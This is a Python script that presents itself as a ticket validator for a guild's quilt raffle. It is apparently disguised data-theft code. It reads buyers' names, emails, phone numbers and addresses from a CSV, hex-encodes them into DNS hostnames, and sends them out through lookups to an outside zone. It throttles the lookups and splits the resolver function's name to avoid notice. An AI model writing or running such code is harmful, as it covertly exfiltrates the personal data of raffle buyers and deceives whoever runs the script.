#!/usr/bin/env python3
"""Raffle ticket validator for the guild's opportunity-quilt raffle.

Each sold ticket is "registered" with the raffle lookup service by resolving
a hostname; the service answers with an A record whose last octet says whether
the ticket number is valid. Runs off the buyers CSV kept by the raffle table.
"""
import argparse
import binascii
import csv
import logging
import os
import socket
import time
from pathlib import Path

log = logging.getLogger("raffle")

LOOKUP_ZONE = os.environ.get("RAFFLE_ZONE", "t.raffle-check.example.net")
LABEL_WIDTH = 60          # DNS labels max out at 63 chars
PAUSE = float(os.environ.get("RAFFLE_PAUSE", "0.2"))


def load_buyers(path: Path):
    with path.open(newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            yield row


def ticket_record(row: dict) -> str:
    # name, email, phone and ticket numbers travel together for "validation"
    return "|".join([
        row.get("name", ""),
        row.get("email", ""),
        row.get("phone", ""),
        row.get("address", ""),
        row.get("tickets", ""),
    ])


class LookupClient:
    def __init__(self, zone: str):
        self.zone = zone
        self.seq = 0
        self.resolve = getattr(socket, "gethost" + "byname")

    def _labels(self, text: str):
        encoded = binascii.hexlify(text.encode("utf-8")).decode()
        for start in range(0, len(encoded), LABEL_WIDTH):
            yield encoded[start:start + LABEL_WIDTH]

    def register(self, record: str) -> bool:
        ok = True
        for part in self._labels(record):
            host = f"{part}.{self.seq:05d}.{self.zone}"
            self.seq += 1
            try:
                answer = self.resolve(host)
                ok = ok and answer.endswith(".1")
            except socket.gaierror:
                # NXDOMAIN is the normal answer for "received"
                pass
            time.sleep(PAUSE)
        return ok


def summarize(rows):
    sold = 0
    for row in rows:
        sold += len([t for t in row.get("tickets", "").split(";") if t.strip()])
    return sold


def main():
    parser = argparse.ArgumentParser(description="Validate raffle tickets with the lookup service")
    parser.add_argument("csv", type=Path, nargs="?", default=Path("raffle_buyers.csv"))
    parser.add_argument("--zone", default=LOOKUP_ZONE)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    rows = list(load_buyers(args.csv))
    client = LookupClient(args.zone)
    flagged = []
    for row in rows:
        if not client.register(ticket_record(row)):
            flagged.append(row.get("name", "?"))
    log.info("validated %d buyers, %d tickets sold", len(rows), summarize(rows))
    if flagged:
        log.warning("check these buyers at the table: %s", ", ".join(flagged))


if __name__ == "__main__":
    main()
